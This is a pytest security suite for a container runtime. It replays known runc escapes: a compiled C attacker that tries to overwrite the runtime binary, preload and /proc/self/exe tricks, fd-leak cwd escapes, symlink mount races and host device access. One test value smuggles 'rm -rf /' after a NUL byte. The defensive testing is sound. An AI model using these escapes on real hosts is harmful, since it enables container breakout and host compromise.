"""Escapes that hit runc and crun, played against berth (issue 5).

Each test is named after the attack it plays and fails when the defence is
missing.  Tests that attack the runtime's own binary run a *copy* of it (in
the test's tmp dir), never the binary under test or a system file.
"""

import ctypes
import hashlib
import json
import os
import shutil
import stat
import subprocess
import threading
import time

import pytest

import util
from util import ConsoleSocket, sh

# ---------------------------------------------------------------------------
# helpers


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def rootfs(bundle):
    return os.path.join(bundle, "rootfs")


def read_text(path, default=""):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError:
        return default


def wait_file_has(path, text, timeout):
    return util.wait_for(lambda: text in read_text(path), timeout=timeout, step=0.05)


@pytest.fixture
def runtime_copy(ctx, monkeypatch):
    """A private copy of the runtime binary; every ctx.cmd runs the copy."""
    d = os.path.join(ctx.tmp, "rt")
    os.makedirs(d)
    copy = os.path.join(d, os.path.basename(os.path.realpath(util.BERTH)) + "-copy")
    shutil.copy2(os.path.realpath(util.BERTH), copy)
    os.chmod(copy, 0o755)
    monkeypatch.setattr(util, "BERTH", copy)
    return copy


ATTACKER_C = r"""
/* attacker DEV INO SECONDS LOG: scan /proc for a process whose exe is the
 * file (DEV, INO) -- the runtime binary on the host -- take an O_PATH handle
 * on it through /proc/PID/exe, and try to open it for writing, directly and
 * by reopening the handle through /proc/self/fd once the runtime has exited
 * (ETXTBSY until then).  Every step is logged. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now (void) { struct timespec t; clock_gettime (CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

int main (int argc, char **argv)
{
  unsigned long long dev = strtoull (argv[1], NULL, 10), ino = strtoull (argv[2], NULL, 10);
  double end = now () + atof (argv[3]);
  FILE *log = fopen (argv[4], "a");
  int held[256], held_pid[256], nheld = 0, won = 0, denied = 0;
  char p[64];

  setvbuf (log, NULL, _IONBF, 0);
  fprintf (log, "ready\n");
  while (!won && now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)) != NULL)
        {
          struct stat sb;
          int fd;
          int pid = atoi (e->d_name), seen = 0;
          if (e->d_name[0] < '0' || e->d_name[0] > '9' || pid == getpid ())
            continue;
          for (int i = 0; i < nheld; i++)
            seen |= held_pid[i] == pid;
          if (seen)
            continue;
          snprintf (p, sizeof p, "/proc/%s/exe", e->d_name);
          fd = open (p, O_PATH | O_CLOEXEC);
          if (fd < 0)
            {
              if (errno == EACCES || errno == EPERM)
                denied++;
              continue;
            }
          if (fstat (fd, &sb) < 0 || sb.st_dev != dev || sb.st_ino != ino || nheld == 256)
            {
              close (fd);
              continue;
            }
          fprintf (log, "handle pid=%s\n", e->d_name);
          held_pid[nheld] = pid;
          held[nheld++] = fd;
          int w = open (p, O_WRONLY | O_APPEND | O_CLOEXEC);
          if (w >= 0)
            {
              fprintf (log, "write-open direct pid=%s\n", e->d_name);
              if (write (w, "PWNED\n", 6) == 6)
                fprintf (log, "wrote\n");
              close (w);
              won = 1;
            }
        }
      if (d)
        closedir (d);
      for (int i = 0; i < nheld && !won; i++)
        {
          snprintf (p, sizeof p, "/proc/self/fd/%d", held[i]);
          int w = open (p, O_WRONLY | O_APPEND | O_CLOEXEC);
          if (w >= 0)
            {
              fprintf (log, "write-open reopen\n");
              if (write (w, "PWNED\n", 6) == 6)
                fprintf (log, "wrote\n");
              close (w);
              won = 1;
            }
        }
    }
  fprintf (log, "done handles=%d denied=%d\n", nheld, denied);
  return 0;
}
"""

# A library the runtime binary, once tricked into running inside the
# container, loads from the container's /etc/ld.so.preload: it only holds the
# process alive long enough for the attacker to find it (the original exploit
# used a doctored libseccomp for the same purpose).
SLOW_C = r"""
#include <unistd.h>
__attribute__ ((constructor)) static void slow (void) { usleep (700 * 1000); }
"""


@pytest.fixture(scope="module")
def attack_tools(tmp_path_factory):
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc to build the attacker")
    d = str(tmp_path_factory.mktemp("attack"))
    with open(os.path.join(d, "attacker.c"), "w") as f:
        f.write(ATTACKER_C)
    with open(os.path.join(d, "slow.c"), "w") as f:
        f.write(SLOW_C)
    r = subprocess.run(["gcc", "-O1", "-D_GNU_SOURCE", "-static", "-o", os.path.join(d, "attacker"),
                        os.path.join(d, "attacker.c")], capture_output=True, text=True)
    if r.returncode != 0:
        pytest.skip(f"cannot build a static attacker: {r.stderr}")
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", os.path.join(d, "slow.so"),
                    os.path.join(d, "slow.c")], check=True)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def arm_rootfs_5736(bundle, tools, binary):
    """Put what the image of a CVE-2019-5736 attacker holds into the rootfs:
    the attacker, `/evil` (a script whose interpreter is /proc/self/exe: when
    the runtime execs it, the kernel runs the runtime's own binary in the
    container), and the shared libraries that binary needs."""
    rf = rootfs(bundle)
    shutil.copy2(os.path.join(tools, "attacker"), os.path.join(rf, "attacker"))
    shutil.copy2(os.path.join(tools, "slow.so"), os.path.join(rf, "slow.so"))
    with open(os.path.join(rf, "evil"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(os.path.join(rf, "evil"), 0o755)
    os.makedirs(os.path.join(rf, "etc"), exist_ok=True)
    with open(os.path.join(rf, "etc", "ld.so.preload"), "w") as f:
        f.write("/slow.so\n")
    out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
    for line in out.splitlines():
        parts = line.split()
        lib = parts[2] if "=>" in parts and len(parts) > 2 else parts[0] if parts else ""
        if lib.startswith("/") and os.path.exists(lib):
            dst = rf + lib
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            shutil.copy2(os.path.realpath(lib), dst)


def attacker_args(binary, seconds=30):
    st = os.stat(binary)
    return ["/attacker", str(st.st_dev), str(st.st_ino), str(seconds), "/attack.log"]


def start_attacker(ctx, tools, binary):
    """A running container whose pid 1 is the attacker; returns (id, bundle, log)."""
    b = ctx.bundle(attacker_args(binary))
    arm_rootfs_5736(b, tools, binary)
    cid = ctx.new_id()
    ctx.ok("run", "--detach", "--bundle", b, cid)
    ctx.state(cid)
    log = os.path.join(rootfs(b), "attack.log")
    assert wait_file_has(log, "ready", 5), "the attacker never started"
    return cid, b, log


def judge_5736(binary, before, log, what):
    # The write, when it comes, follows the runtime process' exit closely.
    wait_file_has(log, "write-open", 3)
    text = read_text(log)
    changed = sha256(binary) != before
    assert "write-open" not in text and not changed, (
        f"CVE-2019-5736 via {what}: the container opened the runtime binary for writing "
        f"(binary changed: {changed})\nattacker log:\n{text}")


def shared_pid_ns(pid):
    def edit(spec):
        for ns in spec["linux"]["namespaces"]:
            if ns["type"] == "pid":
                ns["path"] = f"/proc/{pid}/ns/pid"
    return edit


def test_cve_2019_5736_exec_overwrites_runtime_binary(ctx, runtime_copy, attack_tools):
    before = sha256(runtime_copy)
    cid, _b, log = start_attacker(ctx, attack_tools, runtime_copy)
    # Plain execs first: the exec child runs the runtime binary until execve.
    for _ in range(5):
        ctx.cmd("exec", cid, "true")
    ctx.cmd("exec", cid, "/evil")
    try:
        judge_5736(runtime_copy, before, log, "exec")
    finally:
        ctx.destroy(cid)


def test_cve_2019_5736_run_overwrites_runtime_binary(ctx, runtime_copy, attack_tools):
    before = sha256(runtime_copy)
    cid, _b, log = start_attacker(ctx, attack_tools, runtime_copy)
    pid = ctx.state(cid)["pid"]
    try:
        victim = ctx.bundle(["/evil"], edit=shared_pid_ns(pid))
        arm_rootfs_5736(victim, attack_tools, runtime_copy)
        ctx.cmd("run", "--bundle", victim, ctx.new_id())
        judge_5736(runtime_copy, before, log, "run")
    finally:
        ctx.destroy(cid)


@pytest.mark.skipif(util.IS_RUNC, reason="berth's re-exec paths")
def test_cve_2019_5736_memfd_fallback_without_mount_privilege(ctx, runtime_copy):
    # berth re-executes through a detached read-only bind mount of its own
    # binary; without CAP_SYS_ADMIN over the mount namespace (here: a new
    # user namespace) open_tree fails and the sealed memfd copy must be used.
    if shutil.which("strace") is None or shutil.which("unshare") is None:
        pytest.skip("needs strace and unshare")
    b = ctx.bundle()
    trace = os.path.join(ctx.tmp, "reexec.trace")
    subprocess.run(["unshare", "-U", "-r", "strace", "-f", "-o", trace, "-e",
                    "trace=open_tree,memfd_create,execveat", runtime_copy, "--root",
                    os.path.join(ctx.tmp, "userns-state"), "run", "--bundle", b, util.new_id()],
                   stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
    text = read_text(trace)
    assert "open_tree(" in text and "EPERM" in text, text
    assert 'memfd_create("berth"' in text and "execveat(" in text, text
    assert "re-execute berth" not in text


def test_cve_2019_5736_create_start_overwrites_runtime_binary(ctx, runtime_copy, attack_tools):
    before = sha256(runtime_copy)
    cid, _b, log = start_attacker(ctx, attack_tools, runtime_copy)
    pid = ctx.state(cid)["pid"]
    victim_id = None
    try:
        victim = ctx.bundle(["/evil"], edit=shared_pid_ns(pid))
        arm_rootfs_5736(victim, attack_tools, runtime_copy)
        victim_id = ctx.new_id()
        ctx.ok("create", "--bundle", victim, victim_id)
        ctx.state(victim_id)
        ctx.ok("start", victim_id)
        ctx.wait_status(victim_id, "stopped", timeout=10)
        judge_5736(runtime_copy, before, log, "create/start")
    finally:
        if victim_id:
            ctx.cmd("delete", "--force", victim_id)
        ctx.destroy(cid)


# ---------------------------------------------------------------------------
# CVE-2024-21626: runtime fds in the container, cwd outside the rootfs

# Lists the fds of a child the container's process forks and execs: it holds
# exactly what the runtime left open without FD_CLOEXEC (the shell's own
# private fds are close-on-exec, the lister's are its own).
LIST_FDS = ('sleep 3 & p=$!; sleep 0.3; '
            'for f in /proc/$p/fd/*; do echo "${f##*/} $(readlink $f)"; done > /fds.out; kill $p')


def fds_seen(bundle):
    out = read_text(os.path.join(rootfs(bundle), "fds.out"))
    assert out.strip(), "the container wrote no fd list"
    return {int(line.split()[0]): " ".join(line.split()[1:]) for line in out.splitlines() if line.strip()}


def assert_only_stdio(bundle, what):
    fds = fds_seen(bundle)
    extra = {n: t for n, t in fds.items() if n > 2}
    assert not extra, f"{what}: runtime fds leaked into the container: {extra}"


def terminal(spec):
    spec["process"]["terminal"] = True


def test_cve_2024_21626_no_fd_leak_run(ctx):
    b = ctx.bundle(sh(LIST_FDS))
    r = ctx.cmd("run", "--bundle", b, ctx.new_id())
    assert r.rc == 0, r
    assert_only_stdio(b, "run")


def test_cve_2024_21626_no_fd_leak_create_start(ctx):
    cid, b = ctx.create(sh(LIST_FDS))
    ctx.ok("start", cid)
    ctx.wait_status(cid, "stopped")
    ctx.ok("delete", cid)
    assert_only_stdio(b, "create+start")


def test_cve_2024_21626_no_fd_leak_create_start_terminal(ctx):
    b = ctx.bundle(sh(LIST_FDS), edit=terminal)
    cid = ctx.new_id()
    sock = ConsoleSocket(os.path.join(ctx.tmp, "console.sock"))
    try:
        ctx.ok("create", "--console-socket", sock.path, "--bundle", b, cid)
        ctx.state(cid)
        master = sock.master()
        ctx.ok("start", cid)
        util.read_pty(master, timeout=1)
        ctx.wait_status(cid, "stopped")
        ctx.ok("delete", cid)
    finally:
        sock.close()
    fds = fds_seen(b)
    # (a background job's stdin is /dev/null)
    assert all("/dev/pts/" in fds.get(n, "") or "console" in fds.get(n, "") for n in (1, 2)), fds
    assert_only_stdio(b, "create+start with a terminal")


def test_cve_2024_21626_no_fd_leak_exec(ctx):
    cid = ctx.start_running()
    b = os.path.join(ctx.tmp, "bundle1")
    try:
        ctx.ok("exec", cid, "sh", "-c", LIST_FDS)
        assert_only_stdio(b, "exec")
        os.unlink(os.path.join(rootfs(b), "fds.out"))
        sock = ConsoleSocket(os.path.join(ctx.tmp, "console.sock"))
        try:
            ctx.ok("exec", "--tty", "--detach", "--console-socket", sock.path, cid,
                   "sh", "-c", LIST_FDS)
            util.read_pty(sock.master(), timeout=2)
        finally:
            sock.close()
        assert wait_file_has(os.path.join(rootfs(b), "fds.out"), "2 /", 5)
        assert_only_stdio(b, "exec --tty")
    finally:
        ctx.destroy(cid)


def test_cve_2024_21626_init_fds_seen_from_host(ctx):
    """runc's allow-list check: the running init holds stdio and nothing else."""
    cid = ctx.start_running()
    try:
        pid = ctx.state(cid)["pid"]
        fds = sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
        assert fds == [0, 1, 2], {n: os.readlink(f"/proc/{pid}/fd/{n}") for n in fds}
    finally:
        ctx.destroy(cid)


# After `cd -P ..` twenty times a cwd inside the container stops at its root;
# one outside climbs to the host's root, which is not the container's "/".
ESCAPE_CHECK = ('for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do cd -P .. 2>/dev/null; done; '
                'if [ "$(stat -c %d:%i .)" != "$(stat -c %d:%i /)" ]; then echo ESCAPED; ls; fi')


def test_cve_2024_21626_exec_cwd_proc_self_fd(ctx):
    cid = ctx.start_running()
    try:
        escaped = []
        for n in range(3, 21):
            r = ctx.cmd("exec", "--cwd", f"/proc/self/fd/{n}", cid, "sh", "-c", ESCAPE_CHECK)
            if "ESCAPED" in r.out:
                escaped.append((n, r.out.split()[1:6]))
            elif r.rc != 0:
                assert r.err.strip(), r
        assert not escaped, f"exec --cwd /proc/self/fd/N left the rootfs: {escaped}"
    finally:
        ctx.destroy(cid)


def test_cve_2024_21626_process_cwd_proc_self_fd(ctx):
    escaped = []
    for n in range(3, 16):
        def edit(spec, n=n):
            spec["process"]["cwd"] = f"/proc/self/fd/{n}"
        r = ctx.run(sh(ESCAPE_CHECK), edit=edit)
        if "ESCAPED" in r.out:
            escaped.append((n, r.out.split()[1:6]))
    assert not escaped, f"process.cwd /proc/self/fd/N left the rootfs: {escaped}"


# ---------------------------------------------------------------------------
# CVE-2021-30465 and kin: symlinks in the rootfs must not lead mounts out


def host_victim(ctx):
    """An empty host directory the rootfs' symlinks point at."""
    d = os.path.join(ctx.tmp, "host-victim")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "keep"), "w") as f:
        f.write("host\n")
    return d


def host_tree(d):
    out = []
    for dirpath, dirnames, filenames in os.walk(d):
        for n in dirnames + filenames:
            p = os.path.join(dirpath, n)
            st = os.lstat(p)
            out.append((p, stat.S_IFMT(st.st_mode), st.st_size))
    return sorted(out)


@pytest.mark.parametrize("target", ["/", "/etc", "../../..", "VICTIM"])
def test_cve_2021_30465_mount_destination_symlink(ctx, target):
    victim = host_victim(ctx)
    link = victim if target == "VICTIM" else target
    vol = os.path.join(ctx.tmp, "vol")
    os.makedirs(vol)
    with open(os.path.join(vol, "marker"), "w") as f:
        f.write("vol\n")
    before_victim = host_tree(victim)
    before_etc = sorted(os.listdir("/etc"))

    def edit(spec):
        spec["mounts"].append({"destination": "/evil/sub", "type": "bind", "source": vol,
                               "options": ["rbind", "rw"]})
        spec["mounts"].append({"destination": "/evil2", "type": "tmpfs", "source": "tmpfs",
                               "options": ["size=1m"]})
        spec["mounts"].append({"destination": "/evil3/hosts", "type": "bind",
                               "source": os.path.join(vol, "marker"), "options": ["bind"]})
    b = ctx.bundle(sh("touch /evil/sub/from-container /evil2/x 2>/dev/null; cat /evil/sub/marker"),
                   edit=edit)
    rf = rootfs(b)
    os.symlink(link, os.path.join(rf, "evil"))
    os.symlink(link, os.path.join(rf, "evil2"))
    os.symlink(link, os.path.join(rf, "evil3"))
    r = ctx.cmd("run", "--bundle", b, ctx.new_id())
    if r.rc != 0:
        assert r.err.strip(), r
    assert host_tree(victim) == before_victim, "a mount or file landed in the host directory"
    assert sorted(os.listdir("/etc")) == before_etc, "berth wrote into the host's /etc"
    for name in ("sub", "evil2", "hosts"):
        assert not os.path.exists(os.path.join("/", name)), f"/{name} appeared on the host"


@pytest.mark.skipif(util.IS_RUNC, reason="runc 1.1.5 makes its /dev symlinks (fd, stdin, ...) "
                    "through a rootfs/dev symlink, in the host directory")
def test_cve_2021_30465_device_and_masked_targets_symlink(ctx):
    """/dev without a tmpfs, itself a symlink to a host dir: device nodes and
    masked path targets must still be made inside the rootfs."""
    victim = host_victim(ctx)
    before = host_tree(victim)

    def edit(spec):
        spec["mounts"] = [m for m in spec["mounts"] if not m["destination"].startswith("/dev")]
        spec["linux"]["devices"] = [{"path": "/dev/evil-null", "type": "c", "major": 1, "minor": 3,
                                     "fileMode": 0o666}]
        spec["linux"]["maskedPaths"].append("/masked/secret")
        spec["linux"]["readonlyPaths"].append("/masked")
    b = ctx.bundle(["true"], edit=edit)
    rf = rootfs(b)
    shutil.rmtree(os.path.join(rf, "dev"), ignore_errors=True)
    os.symlink(victim, os.path.join(rf, "dev"))
    os.symlink(victim, os.path.join(rf, "masked"))
    r = ctx.cmd("run", "--bundle", b, ctx.new_id())
    if r.rc != 0:
        assert r.err.strip(), r
    assert host_tree(victim) == before, "device nodes or mounts landed in the host directory"


def test_cve_2021_30465_symlink_race(ctx):
    """A process flips rootfs/a between a directory and a symlink to a host
    directory while the runtime creates containers that mount on /a/b/c."""
    victim = host_victim(ctx)
    before = host_tree(victim)
    vol = os.path.join(ctx.tmp, "vol")
    os.makedirs(vol)

    def edit(spec):
        spec["mounts"].append({"destination": "/a/b/c", "type": "bind", "source": vol,
                               "options": ["rbind"]})
        spec["mounts"].append({"destination": "/a/t", "type": "tmpfs", "source": "tmpfs"})
    b = ctx.bundle(["true"], edit=edit)
    rf = rootfs(b)
    stop = threading.Event()

    a, alt = os.path.join(rf, "a"), os.path.join(rf, "a.alt")
    os.makedirs(os.path.join(a, "b", "c"))
    os.symlink(victim, alt)
    libc = ctypes.CDLL(None, use_errno=True)
    rename_exchange = 2

    def flipper():
        # renameat2(RENAME_EXCHANGE): a is a directory, then a symlink to the
        # host directory, then a directory again, atomically, in a loop.
        while not stop.is_set():
            libc.renameat2(-100, a.encode(), -100, alt.encode(), rename_exchange)
    t = threading.Thread(target=flipper, daemon=True)
    t.start()
    try:
        for _ in range(40):
            cid = ctx.new_id()
            r = ctx.cmd("run", "--bundle", b, cid)
            if r.rc != 0:
                ctx.cmd("delete", "--force", cid)
            assert host_tree(victim) == before, f"a mount target was made outside the rootfs: {r}"
    finally:
        stop.set()
        t.join()


# ---------------------------------------------------------------------------
# CVE-2019-19921 / CVE-2019-16884: /proc and /sys over symlinks, masks


@pytest.mark.parametrize("where,target", [("proc", "/"), ("proc", "/etc"), ("proc", "../../.."),
                                          ("sys", "/"), ("sys", "/etc"), ("sys", "VICTIM")])
def test_cve_2019_16884_proc_sys_over_symlink(ctx, where, target):
    victim = host_victim(ctx)
    before = host_tree(victim)
    before_etc = sorted(os.listdir("/etc"))
    b = ctx.bundle(sh("cat /proc/self/attr/current 2>/dev/null; ls /proc/1 >/dev/null"))
    rf = rootfs(b)
    shutil.rmtree(os.path.join(rf, where), ignore_errors=True)
    os.symlink(victim if target == "VICTIM" else target, os.path.join(rf, where))
    r = ctx.cmd("run", "--bundle", b, ctx.new_id())
    assert host_tree(victim) == before
    assert sorted(os.listdir("/etc")) == before_etc
    assert r.rc != 0, f"{where} was mounted over a symlink to {target}: {r}"
    # Refused for the symlink (runc: 'filesystem "proc" must be mounted on
    # ordinary directory'), not by accident (procfs over the container's
    # root leaves no executable to run).
    assert "executable file not found" not in r.err, f"{where} was mounted over a symlink to {target}: {r}"
    assert where in r.err, r


MASKED_FILES = ["/proc/timer_list", "/proc/keys"]


def test_masked_paths_stay_masked(ctx):
    out = ctx.sh("for f in " + " ".join(MASKED_FILES) + "; do echo \"$f $(wc -c < $f)\"; done; "
                 "echo \"firmware $(ls /sys/firmware | wc -l)\"")
    sizes = dict(line.split() for line in out.splitlines())
    for f in MASKED_FILES:
        assert sizes[f] == "0", f"{f} readable in the container: {out}"
    assert sizes["firmware"] == "0", out


def test_sysfs_read_only_unless_asked(ctx):
    out = ctx.sh("grep ' /sys ' /proc/mounts; touch /sys/kernel/x 2>&1 || true")
    assert " ro," in out.splitlines()[0] or " ro " in out.splitlines()[0], out

    def rw_sys_ro_spec(spec):
        # Default spec from `runc spec`: /sys "ro"; without it, runc mounts
        # sysfs rw only in a container that also has CAP_SYS_ADMIN.
        for m in spec["mounts"]:
            if m["destination"] == "/sys":
                m["options"] = ["nosuid", "noexec", "nodev"]
        spec["mounts"] = [m for m in spec["mounts"] if m["destination"] != "/sys/fs/cgroup"]
    out = ctx.sh("echo x > /sys/kernel/uevent_helper 2>&1 && echo WROTE || true", edit=rw_sys_ro_spec)
    assert "WROTE" not in out, f"the container wrote a host sysfs knob: {out}"


# ---------------------------------------------------------------------------
# Without CAP_SYS_ADMIN: no remount, no unmask, no host devices


def test_no_cap_sys_admin_cannot_remount_readonly_root(ctx):
    def edit(spec):
        spec["root"]["readonly"] = True
    out = ctx.sh("mount -o remount,rw / 2>&1; mount -o remount,bind,rw / 2>&1; "
                 "touch /x 2>&1 && echo WROTE; true", edit=edit)
    assert "WROTE" not in out, out


def test_no_cap_sys_admin_cannot_unmask(ctx):
    out = ctx.sh("for f in " + " ".join(MASKED_FILES + ["/sys/firmware", "/proc/sys"]) +
                 "; do umount $f 2>/dev/null && echo UNMOUNTED $f; umount -l $f 2>/dev/null && echo UNMOUNTED $f; done; "
                 "mount -o remount,rw /proc/sys 2>/dev/null && echo REMOUNTED; "
                 "echo \"timer $(wc -c < /proc/timer_list)\"; true")
    assert "UNMOUNTED" not in out and "REMOUNTED" not in out, out
    assert "timer 0" in out, out


def host_block_device():
    for name in sorted(os.listdir("/sys/dev/block")):
        major, minor = name.split(":")
        if major not in ("7", "1"):  # not loop, not ram
            return int(major), int(minor)
    return 8, 0


def test_no_host_devices_beyond_spec(ctx):
    major, minor = host_block_device()

    def edit(spec):
        for k in ("bounding", "effective", "permitted"):
            spec["process"]["capabilities"][k].append("CAP_MKNOD")
    out = ctx.sh(f"mknod /tmp/disk b {major} {minor} 2>&1; head -c 1 /tmp/disk > /dev/null 2>&1 && echo OPENED; "
                 f"mknod /tmp/mem c 1 1 2>&1; head -c 1 /tmp/mem > /dev/null 2>&1 && echo OPENED-MEM; "
                 "ls /dev; true", edit=edit)
    assert "OPENED" not in out, f"the container opened a host device: {out}"
    # without CAP_MKNOD the node cannot even be made
    out = ctx.sh(f"mknod /tmp/disk b {major} {minor} 2>&1 && echo MADE; true")
    assert "MADE" not in out, out


# ---------------------------------------------------------------------------
# Hostile bundles: a clear error, nothing left behind


def assert_refused(ctx, b, what):
    cid = ctx.new_id()
    r = ctx.cmd("create", "--bundle", b, cid)
    assert r.rc != 0, f"{what}: accepted: {r}"
    assert 0 < r.rc < 128, f"{what}: runtime died: {r}"
    assert r.err.strip(), f"{what}: no error message"
    assert os.listdir(ctx.root) == [], f"{what}: state left: {os.listdir(ctx.root)}"
    return r


def userns(maps):
    def edit(spec):
        spec["linux"]["namespaces"].append({"type": "user"})
        spec["linux"]["uidMappings"] = maps
        spec["linux"]["gidMappings"] = [{"containerID": 0, "hostID": 100000, "size": 65536}]
    return edit


def set_path(path, value):
    def edit(spec):
        node = spec
        for k in path[:-1]:
            node = node.setdefault(k, {}) if isinstance(k, str) else node[k]
        node[path[-1]] = value
    return edit


HOSTILE = {
    "args-empty": set_path(["process", "args"], []),
    "uid-map-overlap": userns([{"containerID": 0, "hostID": 100000, "size": 1000},
                               {"containerID": 500, "hostID": 200000, "size": 1000}]),
    "uid-map-too-long": userns([{"containerID": i, "hostID": 100000 + i, "size": 1} for i in range(341)]),
    "mount-unknown-type": lambda s: s["mounts"].append({"destination": "/x", "type": "nosuchfs",
                                                        "source": "none"}),
    "mount-unknown-option": lambda s: s["mounts"].append({"destination": "/x", "type": "tmpfs",
                                                          "source": "tmpfs", "options": ["frobnicate"]}),
    "device-bad-major": set_path(["linux", "devices"], [{"path": "/dev/bad", "type": "c",
                                                          "major": -1, "minor": 0}]),
    "device-huge-major": set_path(["linux", "devices"], [{"path": "/dev/bad", "type": "c",
                                                           "major": 1 << 40, "minor": 0}]),
    "huge-uid": set_path(["process", "user", "uid"], 1 << 64),
    "huge-memory": set_path(["linux", "resources", "memory"], {"limit": 10 ** 30}),
    "huge-rlimit": set_path(["process", "rlimits"], [{"type": "RLIMIT_NOFILE", "hard": 1 << 70,
                                                      "soft": 1}]),
    "nul-in-arg": set_path(["process", "args"], ["sh", "-c", "true\u0000rm -rf /"]),
    "nul-in-hostname": set_path(["hostname"], "a\u0000b"),
}


# runc 1.1 accepts these (Go's JSON decoder takes NUL and replaces invalid
# UTF-8; it does not range-check a device major); berth refuses them.
RUNC_ACCEPTS = {"device-huge-major", "nul-in-arg", "nul-in-hostname"}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_bundle(ctx, name):
    if util.IS_RUNC and name in RUNC_ACCEPTS:
        pytest.skip("runc 1.1 accepts this; berth deliberately refuses it")
    assert_refused(ctx, ctx.bundle(["true"], edit=HOSTILE[name]), name)


def test_hostile_bundle_missing_rootfs(ctx):
    b = ctx.bundle(["true"])
    shutil.rmtree(rootfs(b))
    assert_refused(ctx, b, "missing rootfs")


def test_hostile_bundle_rootfs_is_a_file(ctx):
    b = ctx.bundle(["true"])
    shutil.rmtree(rootfs(b))
    with open(rootfs(b), "w") as f:
        f.write("not a dir\n")
    assert_refused(ctx, b, "rootfs a file")


@util.berth_only
def test_hostile_bundle_invalid_utf8(ctx):
    b = ctx.bundle(["true"])
    with open(os.path.join(b, "config.json"), "rb") as f:
        data = f.read()
    data = data.replace(b'"berth-test"', b'"berth-\xff\xfe-test"')
    with open(os.path.join(b, "config.json"), "wb") as f:
        f.write(data)
    assert_refused(ctx, b, "invalid UTF-8")


def test_hostile_bundle_cgroups_path_dotdot(ctx):
    name = "berth-escape-" + util.new_id()

    def edit(spec):
        spec["linux"]["cgroupsPath"] = f"/../../../../{name}/../../x/../../{name}"
    b = ctx.bundle(["true"], edit=edit)
    cid = ctx.new_id()
    r = ctx.cmd("run", "--bundle", b, cid)
    # Either refused, or the path is cleaned so it stays under the cgroup
    # root (runc's filepath.Clean); nothing may be made outside /sys/fs/cgroup.
    assert not os.path.exists(f"/sys/fs/{name}") and not os.path.exists(f"/sys/{name}"), r
    for h in os.listdir("/sys/fs/cgroup"):
        assert not os.path.exists(os.path.join("/sys/fs/cgroup", h, name)), f"cgroup left: {r}"
    assert os.listdir(ctx.root) == []


def test_hostile_bundle_50mib_config(ctx):
    def edit(spec):
        spec["annotations"] = {f"k{i}": "v" * 1000 for i in range(52 * 1024)}
    b = ctx.bundle(["true"], edit=edit)
    assert os.path.getsize(os.path.join(b, "config.json")) > 50 * 1024 * 1024
    cid = ctx.new_id()
    t0 = time.monotonic()
    r = ctx.cmd("create", "--bundle", b, cid, timeout=60)
    took = time.monotonic() - t0
    assert 0 <= r.rc < 128, f"runtime died: {r}"
    if r.rc == 0:
        ctx.ok("delete", "--force", cid)
    else:
        assert r.err.strip(), r
    assert os.listdir(ctx.root) == []
    assert took < 30, f"a 50 MiB config took {took:.1f}s"


# ---------------------------------------------------------------------------
# Concurrency


def parallel(n, fn):
    results = [None] * n
    barrier = threading.Barrier(n)

    def one(i):
        barrier.wait()
        results[i] = fn(i)
    threads = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results


def test_parallel_create_same_id(ctx):
    b = ctx.bundle(["sleep", "30"])
    cid = ctx.new_id()
    results = parallel(50, lambda i: ctx.cmd("create", "--bundle", b, cid, timeout=60))
    won = [r for r in results if r.rc == 0]
    lost = [r for r in results if r.rc != 0]
    try:
        assert len(won) == 1, f"{len(won)} creates won: {won[:3]}"
        for r in lost:
            assert 0 < r.rc < 128, r
            assert "already exists" in r.err, r
        assert os.listdir(ctx.root) == [cid]
        assert ctx.state(cid)["status"] == "created"
    finally:
        ctx.cmd("delete", "--force", cid)
    assert os.listdir(ctx.root) == []


def test_parallel_kill_delete_state_exec(ctx):
    cid = ctx.start_running()
    ops = [("state", cid), ("exec", cid, "true"), ("kill", cid, "KILL"),
           ("delete", "--force", cid), ("state", cid), ("exec", cid, "sh", "-c", "sleep 0.1"),
           ("kill", cid, "TERM"), ("delete", cid), ("ps", cid), ("list",)]
    results = parallel(40, lambda i: (ops[i % len(ops)], ctx.cmd(*ops[i % len(ops)], timeout=30)))
    for op, r in results:
        # The runtime itself never dies of a signal; exec exits 255 on its
        # own errors and 128+N when its process is killed (as runc does).
        assert r.rc >= 0, f"{op}: the runtime died: {r}"
        assert r.rc < 128 or op[0] == "exec", f"{op}: {r}"
        if 0 < r.rc < 128 or r.rc == 255:
            assert r.err.strip(), f"{op} failed without a message: {r}"
        if op[0] == "state" and r.rc == 0:
            json.loads(r.out)  # never torn
    ctx.cmd("delete", "--force", cid)
    assert os.listdir(ctx.root) == []
    r = ctx.cmd("state", cid)
    assert r.rc != 0 and "does not exist" in r.err, r


def test_parallel_state_never_torn(ctx):
    cid = ctx.start_running()
    try:
        stop = threading.Event()

        def pauser():
            while not stop.is_set():
                ctx.cmd("pause", cid)
                ctx.cmd("resume", cid)
        t = threading.Thread(target=pauser)
        t.start()
        try:
            for _ in range(100):
                r = ctx.cmd("state", cid)
                assert r.rc == 0, r
                json.loads(r.out)
        finally:
            stop.set()
            t.join()
    finally:
        ctx.destroy(cid)


# --- tmpcopyup copies from the untrusted image --------------------------------


def test_tmpcopyup_symlink_to_host_file_is_copied_as_link(ctx):
    """An image whose /tmp holds links to host files (absolute, and ../
    escaping the rootfs): tmpcopyup must copy the links, never follow them
    and copy the host's files into the container."""
    secret = os.path.join(ctx.tmp, "host-secret")
    with open(secret, "w") as f:
        f.write("host only\n")
